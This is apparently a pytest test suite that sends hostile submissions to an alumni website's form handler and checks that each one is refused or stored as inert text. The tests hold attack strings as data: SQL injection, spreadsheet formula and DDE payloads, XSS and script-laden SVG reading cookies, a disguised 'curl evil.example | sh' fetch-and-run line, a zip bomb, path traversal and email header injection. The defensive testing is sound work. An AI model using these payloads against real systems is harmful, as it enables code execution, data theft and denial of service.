"""Hostile and odd submissions against the real handler under gunicorn: each gets the right answer."""

from __future__ import annotations

import gzip
import http.client
import io
import json
import socket
import zipfile
from dataclasses import dataclass, field
from urllib.parse import urlencode, urlsplit

import pytest
from PIL import Image

from core.tables import read_records
from tests.support import multipart

GOOD = {
    "name": "王小明",
    "email": "wang@example.com",
    "subject": "问候",
    "message": "各位老师好，祝校友总会工作顺利。",
    "consent": "yes",
}
FORM = "application/x-www-form-urlencoded"
JSON = "application/json"


@dataclass
class Case:
    body: bytes
    status: int
    content_type: str | None = FORM
    path: str = "/api/forms/contact"
    method: str = "POST"
    headers: dict = field(default_factory=dict)
    stored: dict | None = None  # field -> value expected in the stored row (contact inbox)
    absent: str | None = None  # text that must not be stored anywhere in the inbox


def form(**changes) -> bytes:
    return urlencode({**GOOD, **changes}).encode()


def as_json(value) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


MULTIPART, MULTIPART_TYPE = multipart({**GOOD, "subject": "不完整"}, [])


def _note_with_a_photo() -> tuple[bytes, str]:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 60)).save(out, "JPEG")
    return multipart({"class_year": "1992", "college": "化学学院", "author": "九二级", "title": "半张照片",
                      "body": "今年秋天，我们班二十多位同学回到化学楼合影留念。", "email": "n@example.com",
                      "photo_alt": "合影", "consent": "yes"}, [("IMG_1.jpg", out.getvalue())])  # fmt: skip


NOTE_BODY, NOTE_TYPE = _note_with_a_photo()

CASES = {
    "sql injection is stored as plain text": Case(
        form(name="'; DROP TABLE alumni; --"), 201, stored={"name": "'; DROP TABLE alumni; --"}
    ),
    "formula with =": Case(
        form(subject='=HYPERLINK("http://evil.example","点我")'),
        201,
        stored={"subject": '=HYPERLINK("http://evil.example","点我")'},
    ),
    "formula with +": Case(form(subject="+cmd|' /C calc'!A0"), 201, stored={"subject": "+cmd|' /C calc'!A0"}),
    "formula with -": Case(form(subject="-2+3"), 201, stored={"subject": "-2+3"}),
    "formula with @": Case(form(subject="@SUM(1+1)"), 201, stored={"subject": "@SUM(1+1)"}),
    "formula behind a tab": Case(form(subject="\t=1+1"), 201, stored={"subject": "=1+1"}),
    "formula behind a carriage return": Case(form(subject="\r=1+1"), 201, stored={"subject": "=1+1"}),
    "script tags are kept as text, never run": Case(
        form(message="<script>alert(1)</script>你好"),
        201,
        stored={"message": "<script>alert(1)</script>你好"},
    ),
    "a field longer than its limit": Case(form(name="王" * 41), 422),
    "a body over the size limit": Case(form(message="长" * 30000), 413),
    "invalid UTF-8 in a form post": Case(
        b"name=%FF%FE%FD&email=a%40b.cn&subject=x&message=hello&consent=yes", 400
    ),
    "invalid UTF-8 in JSON": Case(b'{"name": "\xff\xfe", "consent": "yes"}', 400, JSON),
    "malformed JSON": Case(b'{"name": "x",', 400, JSON),
    "a JSON list instead of an object": Case(b'["name", "x"]', 400, JSON),
    "JSON nested too deep to parse": Case(b"[" * 20000 + b"]" * 20000, 400, JSON),
    "a JSON object inside a field": Case(as_json({**GOOD, "name": {"first": "王"}}), 422, JSON),
    "JSON numbers and booleans": Case(
        as_json({**GOOD, "consent": True}), 201, JSON, stored={"consent": "yes"}
    ),
    "a compressed body": Case(gzip.compress(form()), 415, headers={"Content-Encoding": "gzip"}),
    "a form in UTF-16, said so": Case(
        form().decode().encode("utf-16"), 415, "application/x-www-form-urlencoded; charset=UTF-16"
    ),
    "JSON in GBK, said so": Case(as_json(GOOD).decode().encode("gbk"), 415, "application/json; charset=gbk"),
    "a form in UTF-8, said so": Case(form(), 201, "application/x-www-form-urlencoded; charset=UTF-8"),
    "text/plain": Case(b"name=x", 415, "text/plain"),
    "XML": Case(b"<name>x</name>", 415, "application/xml"),
    "no content type": Case(form(), 415, None),
    "multipart is a form too": Case(
        b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\n\xe5\xbc\xa0\r\n--b\r\nContent-Disposition: form-data; name="email"\r\n\r\nz@example.com\r\n'
        b'--b\r\nContent-Disposition: form-data; name="subject"\r\n\r\nhi\r\n--b\r\nContent-Disposition: form-data; name="message"\r\n\r\nhello there\r\n'
        b'--b\r\nContent-Disposition: form-data; name="consent"\r\n\r\nyes\r\n--b--\r\n',
        201,
        "multipart/form-data; boundary=b",
        stored={"name": "张"},
    ),
    "an unknown form": Case(form(), 404, path="/api/forms/nope"),
    "a path up the tree": Case(form(), 404, path="/api/forms/../update"),
    "an encoded path up the tree": Case(form(), 404, path="/api/forms/%2e%2e%2fupdate"),
    "a path below a form": Case(form(), 404, path="/api/forms/contact/extra"),
    "a form name in capitals": Case(form(), 404, path="/api/forms/CONTACT"),
    "a file-like form name": Case(form(), 404, path="/api/forms/contact.yaml"),
    "GET": Case(b"", 405, None, method="GET"),
    "PUT": Case(form(), 405, method="PUT"),
    "preflight from an allowed origin": Case(
        b"", 204, None, method="OPTIONS", headers={"Origin": "https://alumni.example.org"}
    ),
    "preflight from another origin": Case(
        b"", 403, None, method="OPTIONS", headers={"Origin": "https://evil.example"}
    ),
    "a post from another origin": Case(
        form(subject="跨站"), 403, headers={"Origin": "https://evil.example"}, absent="跨站"
    ),
    "a post from the allowed origin": Case(
        form(subject="本站"),
        201,
        headers={"Origin": "https://alumni.example.org"},
        stored={"subject": "本站"},
    ),
    "unknown fields are dropped": Case(
        form(is_admin="1", id="forged-id", received="1970"), 201, absent="forged-id"
    ),
    "a filled honeypot is accepted and set apart": Case(
        form(website="http://spam.example", subject="买药"), 201, absent="买药"
    ),
    "null bytes": Case(form(name="王\x00小明"), 201, stored={"name": "王小明"}),
    "a right-to-left override": Case(
        form(subject="invoice\u202egpj.exe"), 201, stored={"subject": "invoicegpj.exe"}
    ),
    "control characters": Case(form(subject="叮\x07咚\x1b[31m"), 201, stored={"subject": "叮 咚 [31m"}),
    "emoji with joiners are kept": Case(
        form(message="全家福 👨‍👩‍👧‍👦 🇨🇳 👍🏽"), 201, stored={"message": "全家福 👨‍👩‍👧‍👦 🇨🇳 👍🏽"}
    ),
    "tag characters hiding ASCII are dropped": Case(
        form(subject="hi\U000e0041\U000e0042"), 201, stored={"subject": "hi"}
    ),
    "a name of Hangul fillers is no name": Case(form(name="\u3164\u115f"), 422),
    "word joiners do not make a note long enough": Case(
        urlencode(
            {
                "class_year": "1992",
                "college": "化学学院",
                "author": "九二级",
                "title": "再聚",
                "body": "a" + "\u2060" * 30,
                "email": "n@example.com",
                "consent": "yes",
            }
        ).encode(),
        422,
        path="/api/forms/class-note",
    ),
    "rare CJK characters are kept": Case(form(name="𠮷𪚥䶮"), 201, stored={"name": "𠮷𪚥䶮"}),
    "decomposed accents become composed": Case(form(name="Rene\u0301"), 201, stored={"name": "René"}),
    "a repeated field keeps the first": Case(
        b"name=%E7%94%B2&name=%E4%B9%99&email=a%40b.cn&subject=x&message=hello%20there&consent=yes",
        201,
        stored={"name": "甲"},
    ),
    "no consent": Case(form(consent=""), 422),
    "an e-mail that is not one": Case(form(email="wang@"), 422),
    "a lone surrogate in JSON": Case(
        as_json(GOOD).replace(b'"\xe7\x8e\x8b', b'"\\ud800\xe7\x8e\x8b'), 400, JSON
    ),
    "a lone surrogate on the spam path": Case(
        as_json({**GOOD, "subject": "垃圾"}).replace(b"}", b', "website": "\\udfff"}'), 400, JSON
    ),
    "a list inside a list": Case(as_json({**GOOD, "name": [["张伟", "x"]]}), 422, JSON, absent="张伟"),
    "a list of text keeps the first, like a repeated field": Case(
        as_json({**GOOD, "name": ["张伟", "x"]}), 201, JSON, stored={"name": "张伟"}
    ),
    "hundreds of unknown fields": Case(
        urlencode({**GOOD, **{f"x{i}": "y" for i in range(500)}}).encode(), 201
    ),
    # A multipart body that cannot be read is the request's fault, not five empty fields.
    "multipart without a boundary": Case(MULTIPART, 400, "multipart/form-data", absent="不完整"),
    "multipart with a boundary its body does not use": Case(
        MULTIPART, 400, "multipart/form-data; boundary=other", absent="不完整"
    ),
    "multipart cut before its closing boundary": Case(
        MULTIPART[: MULTIPART.rindex(b"\r\n--")], 400, MULTIPART_TYPE, absent="不完整"
    ),
    "an empty multipart body": Case(b"", 400, MULTIPART_TYPE),
    "a multipart part without its Content-Disposition": Case(
        MULTIPART.replace(b"Content-Disposition", b"Content-Type", 1), 400, MULTIPART_TYPE, absent="不完整"
    ),
    "a class note's multipart cut in its photo": Case(
        NOTE_BODY[: NOTE_BODY.index(b"\xff\xd8") + 50], 400, NOTE_TYPE, path="/api/forms/class-note"
    ),
}


def request(url: str, case: Case) -> tuple[int, dict, str]:
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    headers = {"Accept": "application/json", **case.headers}
    if case.content_type:
        headers["Content-Type"] = case.content_type
    connection.request(case.method, case.path, body=case.body or None, headers=headers)
    response = connection.getresponse()
    answer = (response.status, dict(response.getheaders()), response.read().decode("utf-8", "replace"))
    connection.close()
    return answer


@pytest.mark.parametrize("name", CASES)
def test_hostile_input_gets_the_right_answer(handler, name):
    case = CASES[name]
    before = handler.inbox.rglob("*.csv")
    sizes = {p: p.stat().st_size for p in before}
    status, _, body = request(handler.url, case)
    assert status == case.status, body
    if status >= 400:
        assert "error" in json.loads(body) or "errors" in json.loads(body)
        assert "Traceback" not in body
    rows = read_records(handler.inbox / "contact-v1.csv")
    if case.stored:
        assert status == 201 and json.loads(body)["id"] == rows[-1]["id"]
        assert {key: rows[-1][key] for key in case.stored} == case.stored
    if case.absent:
        assert case.absent not in "".join(p.read_text(encoding="utf-8") for p in handler.inbox.glob("*.csv"))
    if status >= 400:  # a refusal stores nothing
        assert {p: p.stat().st_size for p in sizes} == sizes


def test_there_are_at_least_forty_hostile_cases():
    assert len(CASES) >= 40


def test_formulas_are_inert_in_the_file_itself(handler):
    request(handler.url, CASES["formula with ="])
    raw = (handler.inbox / "contact-v1.csv").read_text(encoding="utf-8")
    assert ",'=HYPERLINK(" in raw.replace('"', "")
    assert ",=HYPERLINK(" not in raw.replace('"', "")


MULTILINE_FORMULAS = (
    "老师好：\n=HYPERLINK(\"http://evil.example\")\n@SUM(1)\r\n-1+1\r+cmd|' /C calc'!A0\n'=已有撇号"
)


def test_a_formula_on_any_line_of_a_message_is_inert_in_the_file_itself(handler):
    """Excel's text import and every tool that reads a file line by line split a cell at its line
    ends: each line of a message starts as a cell would, so each is guarded."""
    status, _, body = request(handler.url, Case(form(message=MULTILINE_FORMULAS), 201))
    assert status == 201, body
    raw = (handler.inbox / "contact-v1.csv").read_text(encoding="utf-8")
    assert [line for line in raw.split("\n") if line.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    stored = next(
        row for row in read_records(handler.inbox / "contact-v1.csv") if row["id"] == json.loads(body)["id"]
    )
    assert stored["message"] == MULTILINE_FORMULAS.replace("\r\n", "\n").replace("\r", "\n")


def test_the_honeypot_row_goes_to_the_spam_file(handler):
    request(handler.url, Case(form(website="x", subject="垃圾广告"), 201))
    assert "垃圾广告" in (handler.inbox / "spam" / "contact-v1.csv").read_text(encoding="utf-8")


def test_a_too_large_body_is_refused_before_it_is_sent(handler):
    """The answer comes from the headers alone: the 10 MB body is never sent."""
    parts = urlsplit(handler.url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
        sock.sendall(b"POST /api/forms/contact HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n"
                     b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000000\r\n\r\n")  # fmt: skip
        answer = sock.recv(4096).decode("utf-8", "replace")
    assert answer.startswith("HTTP/1.1 413")


def test_html_errors_never_echo_raw_html(handler):
    case = Case(
        form(email="not-an-email", name="<img src=x onerror=alert(1)>"), 422, headers={"Accept": "text/html"}
    )
    status, headers, body = request(handler.url, case)
    assert status == 422 and headers["Content-Type"].startswith("text/html")
    assert "<img src=x" not in body and "&lt;img src=x onerror=alert(1)&gt;" in body
    assert "邮箱地址格式不对" in body


def test_cors_headers_only_for_the_allowed_origin(handler):
    _, allowed, _ = request(handler.url, CASES["preflight from an allowed origin"])
    assert allowed["Access-Control-Allow-Origin"] == "https://alumni.example.org"
    _, other, _ = request(handler.url, CASES["preflight from another origin"])
    assert "Access-Control-Allow-Origin" not in other


def test_event_registration_takes_only_open_events(handler):
    base = {"name": "李华", "mobile": "+86 139 0000 1111", "consent": "yes"}
    ok = Case(
        urlencode({**base, "event": "homecoming-2027"}).encode(), 201, path="/api/forms/event-registration"
    )
    past = Case(
        urlencode({**base, "event": "homecoming-2026"}).encode(), 422, path="/api/forms/event-registration"
    )
    assert request(handler.url, ok)[0] == 201
    status, _, body = request(handler.url, past)
    assert status == 422 and json.loads(body)["errors"]["event"]["zh"] == "活动已结束"
    [row] = read_records(handler.inbox / "event-registration-v1.csv")
    assert (row["event"], row["mobile"]) == ("homecoming-2027", "13900001111")


def test_a_client_sending_too_fast_is_told_to_wait(start_handler):
    limited = start_handler(
        workers=1, FORMS_RATE_PER_MINUTE="60", FORMS_RATE_BURST="3"
    )  # buckets are per process
    answers = [request(limited.url, CASES["null bytes"]) for _ in range(5)]
    assert [status for status, _, _ in answers] == [201, 201, 201, 429, 429]
    assert int(answers[3][1]["Retry-After"]) >= 1


def test_a_client_writing_its_own_forwarded_for_is_still_told_to_wait(start_handler):
    """Behind a proxy, the address it adds (the right-most) counts, not what the client wrote before it."""
    limited = start_handler(
        workers=1, FORMS_RATE_PER_MINUTE="60", FORMS_RATE_BURST="3", FORMS_TRUST_FORWARDED_FOR="1"
    )
    answers = [
        request(limited.url, Case(form(), 201, headers={"X-Forwarded-For": f"10.9.{n}.1, 203.0.113.7"}))[0]
        for n in range(5)
    ]
    assert answers == [201, 201, 201, 429, 429]
    # Another visitor behind the same proxy has a bucket of its own.
    assert request(limited.url, Case(form(), 201, headers={"X-Forwarded-For": "203.0.113.8"}))[0] == 201


def test_a_form_sent_from_the_english_edition_is_answered_in_english(handler):
    english = {"Accept": "text/html"}
    status, headers, body = request(
        handler.url, Case(form(email="not-an-email"), 422, path="/api/forms/contact?lang=en", headers=english)
    )
    assert status == 422 and '<html lang="en">' in body and "Please correct" in body
    assert 'action="/api/forms/contact?lang=en"' in body and 'href="/en/privacy/"' in body
    status, headers, _ = request(
        handler.url, Case(form(), 303, path="/api/forms/contact?lang=en", headers=english)
    )
    assert status == 303 and headers["Location"] == "/en/forms/contact/thanks/"
    _, _, answer = request(handler.url, Case(form(), 201, path="/api/forms/contact?lang=en"))
    assert json.loads(answer)["redirect"] == "/en/forms/contact/thanks/"
    status, _, body = request(handler.url, Case(b"", 404, path="/api/forms/nothing?lang=en", headers=english))
    assert status == 404 and "There is no such form" in body and '<html lang="en">' in body


def chunked(url: str, body: bytes, piece: int = 4096) -> str:
    """POST the body in chunks, with no Content-Length, as some clients and proxies send it."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
        sock.sendall(b"POST /api/forms/contact HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n"
                     b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n")  # fmt: skip
        for start in range(0, len(body), piece):
            part = body[start : start + piece]
            sock.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n")
        sock.sendall(b"0\r\n\r\n")
        return sock.recv(65536).decode("utf-8", "replace")


def test_a_chunked_body_over_the_limit_is_refused_whole(handler):
    before = read_records(handler.inbox / "contact-v1.csv")
    answer = chunked(handler.url, form(message="长" * 30000))  # 270 KB; the limit is 64 KB
    assert answer.startswith("HTTP/1.1 413")
    assert read_records(handler.inbox / "contact-v1.csv") == before


def test_a_chunked_body_within_the_limit_is_taken(handler):
    answer = chunked(handler.url, form(subject="分块发送"), piece=16)
    assert answer.startswith("HTTP/1.1 201")
    assert read_records(handler.inbox / "contact-v1.csv")[-1]["subject"] == "分块发送"


def test_too_many_multipart_parts_says_so(handler):
    parts = b"".join(
        b'--b\r\nContent-Disposition: form-data; name="x%d"\r\n\r\ny\r\n' % number for number in range(150)
    )
    case = Case(parts + b"--b--\r\n", 413, "multipart/form-data; boundary=b")
    status, _, body = request(handler.url, case)
    assert status == 413 and json.loads(body)["error"]["en"] == "The form has too many parts (at most 100)"


def test_a_list_inside_a_list_is_named_as_not_text(handler):
    status, _, body = request(handler.url, CASES["a list inside a list"])
    assert status == 422 and json.loads(body)["errors"]["name"] == {
        "zh": "这一项应填文字",
        "en": "This should be text",
        "label": {"zh": "姓名", "en": "Name"},
    }


def test_each_error_names_its_field_in_words(handler):
    status, _, body = request(handler.url, Case(form(consent="", name=""), 422, headers={"Accept": JSON}))
    errors = json.loads(body)["errors"]
    assert status == 422 and errors["name"]["label"] == {"zh": "姓名", "en": "Name"}
    assert errors["consent"]["label"] == {"zh": "同意声明", "en": "Consent"}


def test_a_late_registration_is_refused_with_the_deadline_even_from_a_stale_page(start_handler):
    """The form page was built before the deadline; the handler knows better."""
    late = start_handler(workers=1, FORMS_TODAY="2026-12-06")
    base = {"name": "李华", "mobile": "13900001111", "consent": "yes"}
    status, _, body = request(
        late.url,
        Case(
            urlencode({**base, "event": "chongqing-annual-2026"}).encode(),
            422,
            path="/api/forms/event-registration",
        ),
    )
    assert status == 422
    error = json.loads(body)["errors"]["event"]
    assert error["zh"] == "报名已于 2026-12-05 截止" and error["en"] == "Registration closed on 2026-12-05"
    assert error["label"]["en"] and error["label"]["zh"]
    assert read_records(late.inbox / "event-registration-v1.csv") == []


# Photos sent with a class note (forms/photos.py): a hostile upload is a 4xx with a sentence,
# and neither its row nor any file of it is stored.

NOTE = {"class_year": "1992", "college": "化学学院", "author": "九二级化学班", "title": "三十年后再相聚",
        "body": "今年秋天，我们班二十多位同学回到化学楼，在当年的实验室门口合影留念。", "email": "note@example.com",
        "photo_alt": "二十多位同学在化学楼前合影", "consent": "yes"}  # fmt: skip
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
)


def jpeg(size: tuple[int, int] = (320, 240)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 120, 60)).save(out, "JPEG")
    return out.getvalue()


def hundred_megapixels() -> bytes:
    """A real 10,000 × 10,000 PNG: 12 KB on the wire, 300 MB once decoded as a photo."""
    out = io.BytesIO()
    Image.new("1", (10000, 10000)).save(out, "PNG")
    return out.getvalue()


def zip_bomb() -> bytes:
    """200 MB of zeros deflated into a zip of about 200 KB."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("photos.png", "w") as member,
    ):
        for _ in range(200):
            member.write(bytes(2**20))
    return out.getvalue()


PHOTO_CASES = {
    "a script disguised as a JPEG": ([("IMG_2031.jpg", b"#!/bin/sh\ncurl evil.example | sh\n\xff\xd8\xff\xe0")], 422, "cannot be opened as a photo"),
    "an SVG with a script": ([("logo.svg", SVG)], 422, "“logo.svg” is not a photo"),
    "an SVG with a script named as a JPEG": ([("logo.jpg", SVG)], 422, "“logo.jpg” cannot be opened as a photo"),
    "a 100-megapixel PNG": ([("panorama.png", hundred_megapixels())], 422, "has too many pixels (100 megapixels, at most 16 million)"),
    "a zip bomb named as a PNG": ([("photos.png", zip_bomb())], 422, "“photos.png” cannot be opened as a photo"),
    "a real photo with a wrong extension": ([("photo.php", jpeg())], 422, "“photo.php” is not a photo"),
    "four photos where three are taken": ([(f"{n}.jpg", jpeg()) for n in range(4)], 422, "At most 3 photos can be sent; you chose 4"),
    "a photo over 10 MB": ([("huge.jpg", jpeg() + bytes(10 * 2**20))], 422, "“huge.jpg” is too large: each photo may be at most 10 MB"),
}  # fmt: skip


def stored_notes(handler) -> tuple[list[dict], list[str]]:
    photos = handler.inbox / "photos"
    files = sorted(str(p.relative_to(photos)) for p in photos.rglob("*")) if photos.exists() else []
    return read_records(handler.inbox / "class-note-v2.csv"), files


@pytest.mark.parametrize("name", PHOTO_CASES)
def test_a_hostile_photo_gets_a_sentence_and_nothing_is_stored(handler, name):
    files, status, words = PHOTO_CASES[name]
    before = stored_notes(handler)
    body, content_type = multipart(NOTE, files)
    answer, _, text = request(handler.url, Case(body, status, content_type, path="/api/forms/class-note"))
    assert answer == status, text
    error = json.loads(text)["errors"]["photos"]
    assert words in error["en"] and error["zh"]
    assert stored_notes(handler) == before


def test_the_same_note_with_a_real_photo_is_taken(handler):
    body, content_type = multipart(NOTE, [("IMG_2031.jpg", jpeg((800, 600)))])
    status, _, text = request(handler.url, Case(body, 201, content_type, path="/api/forms/class-note"))
    assert status == 201, text
    rows, files = stored_notes(handler)
    submission = json.loads(text)["id"]
    assert rows[-1]["id"] == submission and rows[-1]["photos"] == "1.jpg"
    assert f"{submission}/1.jpg" in files


@pytest.mark.parametrize(
    "name",
    [
        "微信图片_20261123094512_" + "同学聚会合影" * 8 + ".jpg",  # longer than the name a sentence shows
        "C:\\Users\\校友\\Downloads\\" + "IMG_" * 20 + ".JPEG",
    ],
)
def test_a_photo_with_a_long_name_is_taken_by_its_extension_not_the_shortened_one(handler, name):
    body, content_type = multipart(NOTE, [(name, jpeg((800, 600)))])
    status, _, text = request(handler.url, Case(body, 201, content_type, path="/api/forms/class-note"))
    assert status == 201, text
    rows, files = stored_notes(handler)
    assert rows[-1]["photos"] == "1.jpg" and f"{json.loads(text)['id']}/1.jpg" in files


@pytest.mark.parametrize("name", ["下载.jfif", "IMG_0001.JPE"])
def test_a_jpeg_saved_under_its_other_extensions_is_taken(handler, name):
    """Windows saves JPEGs from the web as .jfif, and the page's file input offers every image/jpeg."""
    body, content_type = multipart(NOTE, [(name, jpeg((800, 600)))])
    status, _, text = request(handler.url, Case(body, 201, content_type, path="/api/forms/class-note"))
    assert status == 201, text
    assert stored_notes(handler)[0][-1]["photos"] == "1.jpg"


def test_a_long_name_is_shown_shortened_with_its_extension(handler):
    name = "聚会" * 40 + ".svg"
    body, content_type = multipart(NOTE, [(name, SVG)])
    status, _, text = request(handler.url, Case(body, 422, content_type, path="/api/forms/class-note"))
    shown = json.loads(text)["errors"]["photos"]["zh"].split("”")[0].removeprefix("“")
    assert status == 422 and shown.endswith("….svg") and len(shown) <= 60


def test_a_body_over_the_forms_photo_limit_is_refused_before_it_is_sent(handler):
    """3 photos of 10 MB and the text: a body of 40 MB is refused from its headers alone."""
    parts = urlsplit(handler.url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
        sock.sendall(b"POST /api/forms/class-note HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n"
                     b"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 40000000\r\n\r\n")  # fmt: skip
        received = b""
        while b"}}" not in received:  # the status line and the sentence may come in two reads
            chunk = sock.recv(4096)
            if not chunk:
                break
            received += chunk
        answer = received.decode("utf-8", "replace")
    assert answer.startswith("HTTP/1.1 413") and "The submission is too large (limit 30 MB)" in answer


def test_a_bot_sending_photos_is_answered_alike_and_none_of_them_is_kept(handler):
    body, content_type = multipart(
        {**NOTE, "website": "http://spam.example", "title": "推广"}, [("ad.jpg", jpeg())]
    )
    status, _, text = request(handler.url, Case(body, 201, content_type, path="/api/forms/class-note"))
    assert status == 201 and json.loads(text)["id"] == "0"
    [row] = [r for r in read_records(handler.inbox / "spam" / "class-note-v2.csv") if r["title"] == "推广"]
    assert row["photos"] == "" and not (handler.inbox / "photos" / row["id"]).exists()


def raw(url: str, head: bytes, body: bytes) -> str:
    """Send bytes as they are, then close our side, and read the whole answer."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
        sock.sendall(head + body)
        sock.shutdown(socket.SHUT_WR)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer.decode("utf-8", "replace")


CHUNKED = (b"POST /api/forms/contact HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept: application/json\r\n"
           b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n")  # fmt: skip


@pytest.mark.parametrize(
    "body", [b"zz\r\nabc\r\n0\r\n\r\n", b"ff\r\nname=abc"], ids=["bad size", "cut short"]
)
def test_a_malformed_chunked_body_is_a_400_with_a_sentence(handler, body):
    answer = raw(handler.url, CHUNKED, body)
    assert answer.startswith("HTTP/1.1 400"), answer
    assert '"en": "The request could not be read"' in answer


@pytest.mark.parametrize("kind", [FORM, MULTIPART_TYPE])
def test_a_body_shorter_than_its_length_is_refused_not_stored_cut(handler, kind):
    """The connection dropped part-way through the message: what arrived is not the submission."""
    message = {"consent": "yes", **GOOD, "subject": "被截断", "message": "First words, " + "then more " * 40}
    body = urlencode(message).encode() if kind == FORM else MULTIPART
    head = (b"POST /api/forms/contact HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept: application/json\r\n"
            b"Content-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind.encode(), len(body)))  # fmt: skip
    inbox = handler.inbox / "contact-v1.csv"
    before = inbox.read_bytes() if inbox.exists() else b""
    cut = body.rindex(b"+" if kind == FORM else b"\r\n", 0, len(body) // 2)  # between two words or lines
    answer = raw(handler.url, head, body[:cut])
    assert answer.startswith("HTTP/1.1 400"), answer
    assert '"en": "The request could not be read"' in answer
    assert (inbox.read_bytes() if inbox.exists() else b"") == before


@pytest.mark.parametrize("form_name, field", [("contact", "name"), ("class-note", "author")])
def test_a_file_sent_in_a_text_field_is_named_as_not_text(handler, form_name, field):
    fields = {key: value for key, value in (GOOD if form_name == "contact" else NOTE).items() if key != field}
    body, content_type = multipart(fields, [("name.txt", b"x")], field)
    status, _, text = request(handler.url, Case(body, 422, content_type, path=f"/api/forms/{form_name}"))
    assert status == 422, text
    errors = {name: error["en"] for name, error in json.loads(text)["errors"].items()}
    assert errors == {field: "This should be text"}


def test_a_thousand_fields_are_too_many_fields_not_bad_utf8(handler):
    status, _, body = request(handler.url, Case(form() + b"&x=" * 1000, 413))
    assert status == 413
    assert json.loads(body)["error"] == {"zh": "表单的项太多（最多 1000 项）", "en": "The form has too many fields (at most 1000)"}  # fmt: skip


def test_json_in_utf8_with_a_byte_order_mark_is_taken(handler):
    """The defect: a BOM, as PowerShell and .NET write UTF-8, was "not valid JSON (UTF-8)"."""
    body = b"\xef\xbb\xbf" + json.dumps({**GOOD, "subject": "带 BOM 的来信"}, ensure_ascii=False).encode()
    status, _, answer = request(handler.url, Case(body, 201, JSON))
    assert status == 201, answer
    assert "带 BOM 的来信" in inbox_text(handler)


def inbox_text(handler) -> str:
    """The contact inbox as stored; empty if no test before this one (on this worker) stored a row."""
    inbox = handler.inbox / "contact-v1.csv"
    return inbox.read_text(encoding="utf-8") if inbox.exists() else ""


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_json_in_another_encoding_than_utf8_is_refused(handler, encoding):
    body = json.dumps({**GOOD, "subject": "UTF-16 来信"}, ensure_ascii=False).encode(encoding)
    assert request(handler.url, Case(body, 400, JSON))[0] == 400
    assert "UTF-16 来信" not in inbox_text(handler)


@pytest.mark.parametrize(
    "path", ["/contact", "//api/forms/contact", "/api/forms//contact", "/x/api/forms/contact"]
)
def test_forms_answer_only_under_their_prefix(handler, path):
    status, _, _ = request(handler.url, Case(form(subject=f"旁门{path}"), 404, path=path))
    assert status == 404
    assert "旁门" not in inbox_text(handler)


UPDATE = {"name": "周晓梅", "gender": "female", "relation": "staff", "staff_years": "1990-2015", "staff_unit": "图书馆",
          "birth_date": "1968-05-04", "mobile": "13911112222", "email": "zhou.xm@example.com", "consent": "yes"}  # fmt: skip


@pytest.mark.parametrize(
    "changes, stored",
    [
        (
            {"email": "ｚｈｏｕ@ＥＸＡＭＰＬＥ.ｃｏｍ"},
            {"email": "zhou@example.com"},
        ),  # full width, as typed in Chinese
        ({"birth_date": "１９６８-０５-０４"}, {"birth_date": "1968-05-04"}),
    ],
)
def test_values_are_stored_in_one_way(handler, changes, stored):
    status, _, body = request(handler.url, Case(form(**{**UPDATE, **changes}), 201, path="/api/forms/update"))
    assert status == 201, body
    row = read_records(handler.inbox / "update-v1.csv")[-1]
    assert {key: row[key] for key in stored} == stored


@pytest.mark.parametrize(
    "changes",
    [
        {"birth_date": "1990-W10-1"},  # an ISO week date, which Python reads as a day
        {"birth_date": "1990-071"},  # an ordinal date
        {"birth_date": "2099-01-01"},  # not born yet
        {"email": "mailto:zhou@example.com"},
        {"email": "<script>@example.com"},
        {"email": "zhou@example.com\nBcc: x@example.com"},
        {"email": "zhou@exa mple.com"},
    ],
)
def test_values_no_one_could_mean_are_refused(handler, changes):
    status, _, body = request(handler.url, Case(form(**{**UPDATE, **changes}), 422, path="/api/forms/update"))
    assert status == 422 and list(json.loads(body)["errors"]) == list(changes)


def test_a_number_is_stored_as_a_number(handler):
    body = urlencode({"event": "homecoming-2027", "name": "李华", "mobile": "13900001111", "guests": "0005", "consent": "yes"})  # fmt: skip
    assert request(handler.url, Case(body.encode(), 201, path="/api/forms/event-registration"))[0] == 201
    assert read_records(handler.inbox / "event-registration-v1.csv")[-1]["guests"] == "5"
